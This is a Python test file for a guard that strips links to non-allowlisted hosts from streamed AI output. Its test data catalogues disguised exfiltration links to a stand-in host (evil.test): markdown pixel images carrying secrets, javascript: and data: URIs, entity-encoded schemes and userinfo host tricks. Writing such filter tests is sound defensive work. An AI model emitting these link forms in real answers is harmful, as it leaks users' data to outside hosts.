import re

import pytest
from exchanges import exchange, guard_env, read_only
from hypothesis import example, given
from hypothesis import strategies as st
from judging import cuts, judged, pieces_of

from extproc.domain.errors import SettingError
from extproc.domain.judging import OnAnswer
from extproc.domain.limits import LIMITS
from extproc.domain.segment import Channel
from extproc.domain.verdict import Mode, Reason
from extproc.guards import links
from extproc.guards._links import Hosts, LinkScanner
from extproc.guards.links import OnLink, Settings

HOSTS = ("example.com", "*.docs.example.com")


def scanner(*, edits=True, hosts=HOSTS):
    return lambda: LinkScanner(Hosts(hosts), replacement="[LINK]" if edits else None)


def redacted(text):
    made = scanner()()
    released = made.feed(text).released
    return released + made.feed("", eof=True).released


BAD = {
    "https://evil.test/a?q=b": "[LINK]",
    "see https://evil.test/a, and": "see [LINK] and",
    "![pixel](https://evil.test/p.png?d=secret)": "![pixel]([LINK])",
    "[text](<https://evil.test/a>)": "[text](<[LINK]>)",
    "[text](\n  //evil.test/a)": "[text](\n  [LINK])",
    '[text](/\\evil.test/a "title")': '[text]([LINK] "title")',
    "[id]: https://evil.test/a": "[id]: [LINK]",
    "[id]://evil.test/a": "[id]:[LINK]",
    "[id]:   //evil.test/a": "[id]:   [LINK]",
    "<https://evil.test>": "<[LINK]>",
    '<img src="https://evil.test/x">': '<img src="[LINK]">',
    "<img src=//evil.test/x>": "<img src=[LINK]>",
    "<img src = //evil.test/x>": "<img src = [LINK]>",
    "<a href='HTTPS://EVIL.TEST'>": "<a href='[LINK]'>",
    "<img srcset='a.png 1x, //evil.test/b 2x'>": "<img srcset='a.png 1x, [LINK] 2x'>",
    "background: url(//evil.test/x)": "background: url([LINK])",
    "url( 'https://evil.test/x' )": "url( '[LINK]' )",
    "www.evil.test/x": "[LINK]",
    "(WWW.evil.test)": "([LINK])",
    "ftp://evil.test": "[LINK]",
    "wss://evil.test/socket": "[LINK]",
    "app://open": "[LINK]",
    "https:evil.test/x": "[LINK]",
    "https:/evil.test/x": "[LINK]",
    "https:\\\\evil.test\\x": "[LINK]",
    "中文https://evil.test": "中文[LINK]",
    "https://example.com@evil.test/x": "[LINK]",
    "https://example.com:pass@evil.test": "[LINK]",
    "https://example.com.evil.test": "[LINK]",
    "https://example.com,.evil.test": "[LINK]",
    "https://example.com。evil.test": "[LINK]",
    "https://example.com\\@evil.test": None,
    "https://%65xample.com/": "[LINK]",
    "https://[::1]/x": "[LINK]",
    "https://127.0.0.1/x": "[LINK]",
    "https://example.com/?next=https://evil.test/x": "https://example.com/?next=[LINK]",
    "https://example.com/?next=//evil.test/x": "https://example.com/?next=[LINK]",
    "https://notexample.com": "[LINK]",
    "https://docs.example.com": "[LINK]",
    "https://evil.test/.docs.example.com": "[LINK]",
    "https://evil?.docs.example.com": "[LINK]",
    "[a](&#104;ttps://evil.test)": "[a]([LINK])",
    "[a](https&colon;//evil.test)": "[a]([LINK])",
    "[a](https\\://evil.test)": "[a]([LINK])",
    "[a](https:\\/\\/evil.test)": "[a]([LINK])",
    "<img src='ht\ntps://evil.test'>": "<img src='[LINK]'>",
    "data:text/html;base64,PHA+": "[LINK]",
    "[a](data:,x)": "[a]([LINK])",
    "[a](javascript:alert(1))": "[a]([LINK](1))",
    '{"a": "https://evil.test/\\"q\\""}': '{"a": "[LINK]\\"q\\""}',
}
GOOD = [
    "https://example.com",
    "https://example.com:8443/a?b=c#d.",
    "(see https://EXAMPLE.com/a), then",
    "[a](https://a.docs.example.com/x_y)",
    "**https://example.com**",
    "<https://example.com/>",
    "a relative [link](/docs/a.md) and ![one](img/a.png)",
    "// a comment",
    "x = 1 //comment.text",
    "a//b.c and C:\\Users\\me and C:/Users",
    'std::string, note:this, 12:30, {"data": 1}, data: yes',
    "the https:// prefix, or https: alone",
    "AT&T &amp; more; a & b",
    "re.compile(r'\\d+:\\w')",
    "mail me@evil.test",
    "In JavaScript:\n\n```js\nf()\n``` and **JavaScript:** or (JavaScript: the good parts)",
    "<a href=\"https://example.com\">example.com</a>, <a href='https://example.com'>a &amp; b</a>",
    '["https://example.com","https://example.com"], "https://example.com".',
    "https://example.com\nNext line",
    "if a < b:\n    return 'https://example.com/x'\n// see",
    "for (i = 0; i<n; i++) //comment\n",
    '[PERSON_bcdfghjklm] said so, see [URL_bcdfghjkl] and name="[PERSON_bcdfghjklm]"',
    "`https://` and https:, then",
    'line.startswith(("data:", "event:")) or b"data:%s\\n", b"\\\\u%04x", "\\\\d.json"',
    "if (a === '<=') {\n  // so\n  f(); //console.log\n  let key = `//${host}`",
    "int x; ///@{\n//@ts-ignore\nf(a,//0\n",
    "'&apos;\\\\0&apos;'",
]


# What some reader takes for a link to another host, and where the host of the list stands first, or the
# host is spelled as only browsers read it.
DISGUISED = [
    *(
        f"![x](https://example.com{sign}@evil.test/?q=s)"
        for sign in ("'", "()", "`", '"', ",", ">", "\\", ":80")
    ),
    "![x](https://'@evil.test/?q=s)",
    "![x](//example.com'@evil.test/q)",
    "![x](<https://example.com @evil.test/?q=s>)",
    '<img src="https://example.com @evil.test/?q=s">',
    '<img src="https://example.com\x01@evil.test/?q=s">',
    '<img src="https://example.com`@evil.test/?q=s">',
    "<img src='https://example.com\"@evil.test/?q=s'>",
    "<img src='https://example.com\" @evil.test/?q=s'>",
    '<img src="https://example.com&quot; @evil.test/?q=s">',
    '<img src="https://example.com\n@evil.test/?q=s">',
    '<img src="https://example.com\n.evil.test/?q=s">',
    '<img alt = "x"\n src\n=\n"https://example.com\n.evil.test/?q=s">',
    "<!-- <a title=' --> <img srcset=\"x'> 1x, https://example.com\n@evil.test 1x\">",
    '<img srcset="a\' 1x, https://example.com\n.evil.test/ 1x">',
    '<img src="https://\nevil.test/?q=s">',
    '<img src="https:/\n/evil.test/?q=s">',
    '<img src="/\t/evil.test/?q=s">',
    '<img src="ht\tt\tp\ts\t:\t/\t/\tevil.test/?q=s">',
    '<img src="/&Tab;/evil.test/?q">',
    '<img src="/&NewLine;/evil.test/?q">',
    '<img src="\x01//evil.test/?q=s">',
    "![x](\u00a0//evil.test/?q=s)",
    "[x](&sol;/evil\\.test/?q=s)",
    "[x](http&#115;://example.com\\@evil.test/?q=s)",
    "[x](http&#115;&#58;//evil.test/?q=s)",
    "[x](https://example.com&commat;evil.test/?q=s)",
    '{"a": "\\u0068ttps://evil.test"}',
    "[x](https:///evil.test/?q=s)",
    "[x](https:\\/\\evil.test/?q=s)",
    "https://example.com%2eevil.test/",
    "https://example.com'.evil.test/",
    "[x](//evil\u3002test/?q=s)",
    "[x](//evil%2etest/?q=s)",
    "[x](//2130706433/?q=s)",
    "[x](//0x7f000001/?q=s)",
    "[x](//evil/?q=s)",
    '<meta http-equiv=refresh content="0; //evil.test/?q=s">',
    '<a ping="/x //evil.test/?q=s" href="/">',
    '<a ping="[x]\x0c//evil.test/?q=s" href="/">',
    "[x](javascript:(fetch)(1))",
    "[x](javascript:'a')",
    "[x](javascript:`a`)",
    "[x]: javascript:{}",
    "<javascript:'a'>",
    '<a href="javascript:\nalert(1)">',
    '<a href="java\nscript:alert(1)">',
    '<a href="java&Tab;script:alert(1)">',
    '<a href="\x01javascript:x">',
    '<a href="\x01\x0cjavascript:{}">',
    '<iframe src="data:text/html ,x">',
    '<a href="data:text/html;a=\',PHNj">',
    f'<a href="data:text/html;{"a" * 201},x">',
    "[x](mailto:a@evil.test?body=s)",
    "[x](<intent:x#Intent;scheme=https;end>)",
]


@pytest.mark.parametrize("text", DISGUISED)
def test_a_host_in_disguise_is_another_one(text):
    made = scanner()()
    left = "".join(made.feed(letter).released for letter in text) + made.feed("", eof=True).released
    assert left == redacted(text) != text
    assert judged(scanner(edits=False), [text])[1] != ()


@pytest.mark.parametrize("text", BAD)
def test_a_link_to_another_host_goes(text):
    left = redacted(text)
    if BAD[text] is not None:
        assert left == BAD[text]
    else:
        # Browsers go to the first host, others to the second: some of the two is allowed.
        assert left in {text, "[LINK]"}


@pytest.mark.parametrize("text", GOOD)
def test_everything_else_stays(text):
    assert redacted(text) == text
    assert judged(scanner(edits=False), [text]) == (text, ())


@pytest.mark.parametrize("text", [text for text, left in BAD.items() if left is not None])
def test_nothing_of_a_link_goes_out_before_an_answer_ends(text):
    released, found = judged(scanner(edits=False), list(text))
    assert (released, len(found)) == (BAD[text].partition("[LINK]")[0], 1)


fragments = st.sampled_from(
    [
        *BAD,
        *GOOD,
        *DISGUISED,
        "<img src=",
        "'",
        "\n",
        "[URL_bcdfghjklm]",
        "\u4e2d",
        "https",
        "://",
        "evil.test",
        "example.com",
        "//",
        "www.",
        "&#104;",
        "(",
        ")",
        '"',
        " ",
        "\\",
    ]
)
texts = st.lists(fragments, max_size=8).map("".join) | st.text(
    st.sampled_from('htps:/.w ()\\"&;a@<=\n\x01\u4e2d['), max_size=60
)


@given(texts, cuts)
@example("](", [1])
def test_what_goes_out_does_not_depend_on_the_cuts(text, places):
    for edits in (True, False):
        whole = judged_all(scanner(edits=edits), [text])
        assert judged_all(scanner(edits=edits), pieces_of(text, places)) == whole
        assert judged_all(scanner(edits=edits), list(text)) == whole


def judged_all(make, pieces):
    """All that is released, with every finding; where one ends it, up to there."""
    made = make()
    released, findings = "", []
    for piece, eof in [*((piece, False) for piece in pieces), ("", True)]:
        scan = made.feed(piece, eof=eof)
        released += scan.released
        findings += scan.findings
        if scan.findings and made._replacement is None:
            return released, findings
    return released, findings


@given(texts)
def test_what_is_left_leads_nowhere_else(text):
    assert (
        re.search(r"(?:https?:|wss?:|ftp:)[/\\]*evil|www\.evil|\]\([/\\]{2,}evil", redacted(text)) is None
    )


@pytest.mark.parametrize(
    "text",
    [
        "![x]([URL_bcdfghjklm]SECRET)",
        "see [URL_bcdfghjklm]?q=SECRET",
        "[x]: [OWN_RULE_bcdfghjklm]",
        "![x](<[OWN_RULE_bcdfghjklm]>)",
        '<img src="[OWN_RULE_bcdfghjklm]">',
        "https://[OWN_RULE_bcdfghjklm]/",
        "https:[OWN_RULE_bcdfghjklm]",
        "[x](//[OWN_RULE_bcdfghjklm]/)",
        "[CONNECTION_STRING_bcdfghjklm]",
    ],
)
def test_the_token_of_a_value_that_comes_back_later_is_a_target_like_the_value(text):
    assert re.search("_[a-z]{10}", redacted(text)) is None


def test_text_of_scripts_without_spaces_is_not_held():
    made = scanner()()
    assert made.feed("\u8fd9\u662f" * 50).released == "\u8fd9\u662f" * 50
    assert made.feed("\u8fd9https://evil.test").released == "\u8fd9"
    assert made.feed("", eof=True).released == "[LINK]"


@pytest.mark.parametrize(
    "text",
    [
        "<" + "/\\" * 5_000,
        "&#104;" * 3_000,
        ":" * 9_000,
        "<a b='" + "\n" * 9_000 + "//evil.test/",
        "[A" * 5_000,
    ],
)
def test_whatever_comes_what_is_held_is_bounded(text):
    made = scanner()()
    for start in range(0, len(text), 500):
        made.feed(text[start : start + 500])
        assert made.held_chars <= LIMITS.link_word_chars_max


@pytest.mark.parametrize("size", [1, 7, 1_000, 5_000])
def test_a_long_word_is_held_within_its_bound_and_still_read(size):
    filler = "x" * 3_000
    text = f"{filler}https://evil.test/{filler} end"
    made = scanner()()
    released = ""
    for start in range(0, len(text), size):
        released += made.feed(text[start : start + size]).released
        assert made.held_chars <= LIMITS.link_word_chars_max
    released += made.feed("", eof=True).released
    assert released == f"{filler}[LINK] end"


@pytest.mark.parametrize("host", ["a" * 400, "u:" + "p" * 400 + "@example.com"])
def test_a_host_that_is_longer_than_hosts_are_is_not_allowed(host):
    assert redacted("x" * 600 + f"https://{host}") == "x" * 600 + "[LINK]"


def test_json_stays_json():
    text = '{"a": "see \\"https://evil.test/x\\" now", "b": "https://evil.test\\\\", "c": 1}'
    assert redacted(text) == '{"a": "see \\"[LINK]\\" now", "b": "[LINK]\\\\", "c": 1}'
    made = scanner()()
    assert "".join(made.feed(letter).released for letter in text) + made.feed(
        "", eof=True
    ).released == redacted(text)


# --- the guard -----------------------------------------------------------------------------------


def guard(**settings):
    return links.GUARD.build(Settings(**settings), guard_env())


def test_it_is_off_until_a_policy_wants_it():
    assert links.GUARD.mode is Mode.OFF
    assert guard().scanner(read_only()) is None


@pytest.mark.parametrize("answer", OnLink)
def test_what_a_policy_wants_done(answer):
    watch = guard(answer=answer).scanner(exchange("hi"))
    assert watch.reason is Reason.LINK_FOUND
    assert watch.edits is (answer is OnLink.REDACT)
    assert watch.on_finding is (OnAnswer.FLAG if watch.edits else OnAnswer(answer))
    made = watch.judge.begin().open(Channel(0, "content"))
    scan = made.feed("a https://evil.test b", eof=True)
    ends = answer in {OnLink.CUT, OnLink.REPLACE}
    assert (scan.released, len(scan.findings)) == ("a " if ends else "a [LINK] b", 1)


@pytest.mark.parametrize(
    ("field", "settings", "read"),
    [
        ("content", {}, True),
        ("output.*", {}, True),
        ("thinking", {}, True),
        ("tool_calls.0.name", {}, False),
        ("tool_calls.0.arguments", {}, False),
        ("tool_calls.0.arguments", {"arguments": True}, True),
    ],
)
def test_which_texts_are_read(field, settings, read):
    judging = guard(**settings).scanner(exchange("hi")).judge.begin()
    assert (judging.open(Channel(0, field)) is not None) is read


@pytest.mark.parametrize(
    "host", ["https://example.com", "Example.com", "example.com/", "*", "a..b", "", "*.*.a"]
)
def test_what_is_no_host_is_refused(host):
    with pytest.raises(SettingError, match="is no host's name") as refused:
        Settings(hosts=("example.com", host))
    assert refused.value.place == ("hosts", 1)
